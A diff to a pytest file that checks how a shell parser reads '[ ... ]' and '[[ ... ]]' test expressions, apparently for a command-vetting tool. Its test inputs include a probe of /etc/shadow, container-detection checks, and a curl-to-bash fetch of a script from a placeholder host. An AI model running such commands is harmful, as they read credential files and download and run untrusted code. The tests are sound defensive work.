@@ -1364,10 +1364,20 @@ def test_tar_words_are_read_as_gnu_tar_reads_them(args, parts):
 
 @pytest.mark.parametrize("text, expected", [
     ("[ -f /.dockerenv ] && echo d", [("test", ["-f", "/.dockerenv"]), ("echo", ["d"])]),
-    ("[[ -e /run/.containerenv || $x == 'a b' ]]", [("test", ["-e", "/run/.containerenv", "$x", "a b"])]),
+    ("[[ -e /run/.containerenv || $x == 'a b' ]]", [("test", ["-e", "/run/.containerenv", "||", "$x", "==", "a b"])]),
     ("x=/etc/shadow; if [ -r $x ]; then :; fi", [("assign", ["x=/etc/shadow"]), ("test", ["-r", "/etc/shadow"]), (":", [])]),
     ('[ -n "$(curl -s http://x.example)" ]', [("curl", ["-s", "http://x.example"]), ("test", ["-n", "$(curl -s http://x.example)"])]),
+    ("[ -e ~/.dockerenv ]", [("test", ["-e", "~/.dockerenv"])]),  # the grammar splits `~` off its word
+    ("[[ ! -d ~root || $x == y ]]", [("test", ["!", "-d", "~root", "||", "$x", "==", "y"])]),
+    ("[ -f /.dockerenv ] | cat", [("test", ["-f", "/.dockerenv"]), ("cat", [])]),  # a pipeline's stage
 ])
 def test_a_test_command_is_the_test_builtin(text, expected):
     """`[ ... ]` and `[[ ... ]]` are read as `test ...` is, once each, what their substitutions run included."""
     assert [(c.name, c.args) for c in ShellReader().read(text, Session())] == expected
+
+
+def test_a_long_test_still_runs_its_substitutions():
+    """Past the words a test command keeps, what its substitutions run is still read."""
+    padded = " -a ".join(["1 = 1"] * 40)
+    cmds = ShellReader().read(f'[ {padded} -a "$(curl -s http://x.example/s.sh | bash)" ]', Session())
+    assert ("curl", ["-s", "http://x.example/s.sh"]) in [(c.name, c.args) for c in cmds]
